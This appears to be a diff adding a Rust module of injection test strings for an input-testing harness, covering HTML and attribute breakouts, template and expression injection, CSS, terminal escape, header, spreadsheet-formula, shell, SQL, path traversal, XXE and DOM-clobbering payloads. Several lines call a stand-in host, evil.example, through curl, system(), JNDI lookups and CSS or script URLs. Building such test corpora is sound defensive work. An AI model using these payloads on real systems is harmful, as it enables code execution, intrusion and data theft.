@@ -1,0 +1,111 @@
+//! Texts that try to get out of the place they are put into: an attribute, a title, a cell, a script, a style.
+//!
+//! In: nothing. Out: texts of one line for every field a user fills. Must not: be longer than a title may be.
+
+use super::{Kind, Payload, payloads};
+
+/// Out of attributes and elements.
+pub(super) const PLACES: &[Payload] = payloads!(Kind::Html;
+    "out-double", r#""><script>alert(1)</script>"#;
+    "out-single", r#"'><script>alert(1)</script>"#;
+    "out-both", r#"'"><img src=x onerror=alert(1)>"#;
+    "out-handler", r#"" autofocus tabindex=1 onfocus=alert(1) x=""#;
+    "out-handler-single", r#"' autofocus tabindex=1 onfocus=alert(1) x='"#;
+    "out-handler-bare", r#"x onerror=alert(1) src=x "#;
+    "out-handler-slash", r#""/onmouseover="alert(1)"#;
+    "out-style", r#"" style="background:url(//evil.example/o)"#;
+    "out-id", r#"" id="search" onclick="alert(1)"#;
+    "out-href", r#"" href="javascript:alert(1)"#;
+    "out-entity-open", r#"&lt<script>alert(1)</script>"#;
+    "out-script-end", r#"</script><svg onload=alert(1)>"#;
+    "out-json", r#"{"a":"</script><img src=x onerror=alert(1)>"}"#;
+    "out-comment", r#"--!><img src=x onerror=alert(1)>"#;
+    "out-title", r#"</title><img src=x onerror=alert(1)>"#;
+    "out-textarea", r#"</textarea><img src=x onerror=alert(1)>"#;
+    "out-select", r#"</option></select><img src=x onerror=alert(1)>"#;
+    "out-table", r#"</td></tr></table><img src=x onerror=alert(1)>"#;
+    "out-summary", r#"</summary></details><img src=x onerror=alert(1)>"#;
+    "out-pre", r#"</code></pre><img src=x onerror=alert(1)>"#;
+    "out-svg", r#"</text></svg><img src=x onerror=alert(1)>"#;
+    "out-noscript", r#"</noscript><img src=x onerror=alert(1)>"#;
+    "out-template", r#"</template><img src=x onerror=alert(1)>"#;
+);
+
+/// What a template, a style, a terminal, a server or a reader's eye would act on.
+pub(super) const LANGUAGES: &[Payload] = payloads!(Kind::Text;
+    "out-handler-backtick", r#"`onmouseover=alert(1)"#;
+    "out-entity", r#"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"#;
+    "out-entity-twice", r#"&amp;quot;&amp;gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;"#;
+    "out-percent", r#"%22%3E%3Cscript%3Ealert(1)%3C/script%3E"#;
+    "out-percent-twice", r#"%2522%253E%253Cscript%253Ealert(1)%253C%252Fscript%253E"#;
+    "out-unicode-escape", r#"\u003cimg src=x onerror=alert(1)\u003e"#;
+    "out-hex-escape", r#"\x3cimg src=x onerror=alert(1)\x3e"#;
+    "out-wide", "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}";
+    "out-modifier", "\u{2039}script\u{203a}alert(1)";
+    "out-utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-";
+    "out-script-string", r#"';alert(1)//"#;
+    "out-script-string-double", r#"";alert(1);//"#;
+    "out-script-escape", r#"\';alert(1)//"#;
+    "out-script-template", r#"${alert(1)}"#;
+    "out-script-separator", "\u{2028}alert(1)\u{2029}";
+    "template-constructor", r#"{{constructor.constructor('alert(1)')()}}"#;
+    "template-angular", r#"{{$on.constructor('alert(1)')()}}"#;
+    "template-eval", r#"{{$eval.constructor('alert(1)')()}}"#;
+    "template-vue", r#"{{_c.constructor('alert(1)')()}}"#;
+    "template-raw", r#"{{{"<img src=x onerror=alert(1)>"}}}"#;
+    "template-jinja", r#"{{ ''.__class__.__mro__[1].__subclasses__() }} evil.example"#;
+    "template-jinja-block", r#"{% include "https://evil.example/x" %}"#;
+    "template-erb", r#"<%= system("curl evil.example") %>"#;
+    "template-php", r#"<?php system("curl evil.example"); ?>"#;
+    "template-jsp", r#"${T(java.lang.Runtime).getRuntime().exec("curl evil.example")}"#;
+    "template-go", r#"{{ printf "%s" "<script>alert(1)</script>" | safeHTML }}"#;
+    "template-hash", r#"#{alert(1)} #{7*7} evil.example"#;
+    "template-alpine", r#"<div x-data x-init="alert(1)">x</div>"#;
+    "template-htmx", r#"<div hx-get="https://evil.example/x" hx-trigger="load">x</div>"#;
+    "template-ng", r#"<div ng-app ng-csp><b ng-init="constructor.constructor('alert(1)')()"></b></div>"#;
+    "lookup", r#"${jndi:ldap://evil.example/a}"#;
+    "style-break", r#"}*{background:url(//evil.example/s)}"#;
+    "style-end", r#"x;background:url(https://evil.example/s)"#;
+    "style-escape", r#"\3c img src=x onerror=alert(1)\3e "#;
+    "style-import", r#"@import url(https://evil.example/s.css);"#;
+    "ansi-title", "\u{1b}]0;evil.example\u{7}";
+    "ansi-link", "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\";
+    "ansi-clear", "\u{1b}[2J\u{1b}[Hevil.example";
+    "ansi-eight-bit", "\u{9b}31mevil.example\u{9c}";
+    "ansi-clipboard", "\u{1b}]52;c;ZXZpbC5leGFtcGxl\u{7}evil.example";
+    "backspaces", "good\u{8}\u{8}\u{8}\u{8}evil.example";
+    "header-break", "x\r\nSet-Cookie: evil.example=1\r\n\r\n<script>alert(1)</script>";
+    "header-location", "x\r\nLocation: https://evil.example/\r\n";
+    "line-feed", "x\n\n<script>alert(1)</script>\n\ny";
+    "null", "x\0<script\0>alert(1)</script\0>";
+    "bidi-override", "\u{202e}elpmaxe.live\u{202c} evil.example";
+    "bidi-isolate", "\u{2066}evil.example\u{2069}\u{2067}x";
+    "zero-width", "ev\u{200b}il.ex\u{200d}ample evil.example";
+    "homograph", "p\u{430}yments \u{435}vil.example evil.example";
+    "combining", "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}vil evil.example";
+    "tags", "evil.example\u{e0065}\u{e0076}\u{e0069}\u{e006c}";
+    "private", "\u{f8ff}\u{10ffff}evil.example";
+    "formula", r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#;
+    "formula-command", r#"=cmd|' /C curl evil.example'!A0"#;
+    "shell", r#"$(curl evil.example) `curl evil.example` ; curl evil.example #"#;
+    "query", r#"' OR 1=1; -- evil.example"#;
+    "label-selector", r#"severity=critical,{evil.example="~.*"}"#;
+    "prototype", r#"__proto__[alert]=evil.example&constructor.prototype.x=alert(1)"#;
+    "path-up", r#"../../../../etc/passwd?evil.example"#;
+    "path-encoded", r#"..%2f..%2f..%2fevil.example"#;
+    "xml-entity", r#"<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/e">]><x>&e;</x>"#;
+    "log-line", "x level=error msg=\"evil.example\"\nlevel=info msg=x";
+);
+
+/// Names that take the place of what scripts and browsers look up.
+pub(super) const CLOBBERING: &[Payload] = payloads!(Kind::Html;
+    "clobber-cookie", r#"<img name=cookie alt=alert>"#;
+    "clobber-body", r#"<img name=body alt=alert>"#;
+    "clobber-query", r#"<form name=querySelector><input name=x alt=alert></form>"#;
+    "clobber-by-id", r#"<img name=getElementById alt=alert>"#;
+    "clobber-current-script", r#"<img name=currentScript src="//evil.example/c.js">"#;
+    "clobber-config", r#"<a id=config><a id=config name=url href="//evil.example/c">x</a>"#;
+    "clobber-form", r#"<form id=search action="//evil.example/s"><input name=action><input id=q name=attributes></form>"#;
+    "clobber-frame", r#"<iframe name=self srcdoc="<a id=alert href=//evil.example>x</a>"></iframe>"#;
+    "clobber-default", r#"<a id=defaultView href="//evil.example" style="display:block">x</a><object id=document></object>"#;
+);
